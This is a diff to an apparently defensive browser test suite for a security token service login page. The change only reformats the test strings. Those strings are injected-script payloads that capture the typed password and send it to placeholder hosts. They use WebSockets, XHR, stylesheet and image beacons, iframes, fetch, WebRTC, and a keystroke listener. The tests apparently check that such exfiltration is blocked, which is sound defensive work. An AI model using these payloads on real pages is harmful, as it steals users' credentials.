@@ -108,7 +108,8 @@ test.describe('the page of the STS was tampered with', () => {
     [
       'a web socket of a frame',
       onSubmit(
-        `${stay} const f = document.createElement('iframe'); document.body.append(f); try { new f.contentWindow.WebSocket('ws://W/?p=' + encodeURIComponent(p)) } catch { }`,
+        `${stay} const f = document.createElement('iframe'); document.body.append(f); ` +
+          `try { new f.contentWindow.WebSocket('ws://W/?p=' + encodeURIComponent(p)) } catch { }`,
       ),
     ],
     ['XMLHttpRequest', onSubmit(`${stay} const x = new XMLHttpRequest(); x.open('POST', 'E/take'); x.send(p);`)],
@@ -117,12 +118,14 @@ test.describe('the page of the STS was tampered with', () => {
     ['a style sheet', onSubmit(`${stay} document.head.insertAdjacentHTML('beforeend', '<link rel=stylesheet href="E/take?p=' + encodeURIComponent(p) + '">')`)],
     [
       'an image while typing',
-      `document.querySelector('[type=password]').addEventListener('input', () => { ${take} new Image().src = 'E/take?p=' + btoa(unescape(encodeURIComponent(p))); });`,
+      `document.querySelector('[type=password]').addEventListener('input', () => { ${take} new Image().src = 'E/take?p=' + ` +
+        `btoa(unescape(encodeURIComponent(p))); });`,
     ],
     [
       'a frame that listens',
       onSubmit(
-        `${stay} document.body.insertAdjacentHTML('beforeend', '<iframe src="E/take#' + '"></iframe><iframe src="E/take?p=' + encodeURIComponent(p) + '"></iframe>')`,
+        `${stay} document.body.insertAdjacentHTML('beforeend', '<iframe src="E/take#' + '"></iframe>` +
+          `<iframe src="E/take?p=' + encodeURIComponent(p) + '"></iframe>')`,
       ),
     ],
     ['plain http', onSubmit(`${stay} fetch('http://W/take', { method: 'POST', mode: 'no-cors', body: p })`)],
@@ -133,7 +136,8 @@ test.describe('the page of the STS was tampered with', () => {
     [
       'WebRTC',
       onSubmit(
-        `${stay} try { const r = new RTCPeerConnection({ iceServers: [{ urls: 'stun:W', username: p, credential: p }] }); r.createDataChannel('x'); r.createOffer().then((o) => r.setLocalDescription(o)) } catch { }`,
+        `${stay} try { const r = new RTCPeerConnection({ iceServers: [{ urls: 'stun:W', username: p, credential: p }] }); r.createDataChannel('x'); ` +
+          `r.createOffer().then((o) => r.setLocalDescription(o)) } catch { }`,
       ),
     ],
   ];
